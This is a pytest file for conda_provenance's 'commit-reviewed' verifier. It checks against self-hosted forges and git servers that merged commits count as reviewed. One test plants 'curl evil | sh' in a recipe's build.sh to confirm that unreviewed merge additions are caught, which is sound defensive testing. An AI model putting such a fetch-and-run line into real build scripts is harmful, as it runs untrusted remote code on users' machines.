"""``commit-reviewed`` with nothing stood in for: forge and git at one address, asked by the real
door and by git itself."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import Any, cast

import pytest
from doors_making import ANYWHERE, make_doors
from forge_cases import Setting
from forge_model import Opinion, model_of
from forge_server import serve_with_git
from forges_known import FORGES, KnownForge
from git_servers import GitServer
from histories import History

from conda_provenance.verify.answers import Answers
from conda_provenance.verify.git import GitRepositories
from conda_provenance.verify.outcome import Outcome
from conda_provenance.web import Web

OWN = [each for each in FORGES if not each.is_public]


@pytest.fixture(params=OWN, ids=lambda known: known.name)
def setting(
    request: pytest.FixtureRequest,
    everyday_history: History,
    git_servers: Callable[..., GitServer],
    tmp_path: Path,
    web: Web,
) -> Iterator[Setting]:
    known: KnownForge = request.param
    model = model_of(everyday_history.copy(tmp_path / "own"))
    server = known.server(model)
    remote = serve_with_git(server, git_servers())
    answers = Answers()
    doors = make_doors(web, answers=answers)
    with ExitStack() as stack:
        repositories = GitRepositories(answers, doors.probe, reach=ANYWHERE)
        stack.enter_context(repositories)
        setting = Setting(server, web=str(remote))
        setting.doors = cast(Any, doors)
        setting.repositories = cast(Any, repositories)
        yield setting


@pytest.mark.parametrize("commit", ["merge", "squash", "rebased"])
def test_what_was_merged_passes(setting: Setting, commit: str) -> None:
    for number in (1, 2, 3):
        setting.server.model.edit(number, said=(Opinion("dora"),))
    result = setting.check(commit)
    assert result.outcome is Outcome.PASS, result
    assert "dora" in result.message


def test_what_merging_added_fails(setting: Setting) -> None:
    history = setting.server.model.history
    files = {"recipe/build.sh": "curl evil | sh\n"}
    evil = history.commit("evil", files, parents=["second", "side"])
    setting.server.model.edit(1, landed=(evil,))
    result = setting.check("evil")
    assert result.outcome is Outcome.FAIL, result
    assert "was merged with changes nobody reviewed: recipe/build.sh" in result.message


def test_a_reviewed_head_that_no_branch_has_is_fetched_all_the_same(setting: Setting) -> None:
    history = setting.server.model.history
    files = {"recipe/build.sh": "two\n"}
    head = history.commit("head", files, on=None, parents=["tip"])
    squashed = history.commit("squashed", files)
    setting.server.model.edit(2, commits=(head,), landed=(squashed,))
    result = setting.check("squashed")
    assert result.outcome is Outcome.PASS, result
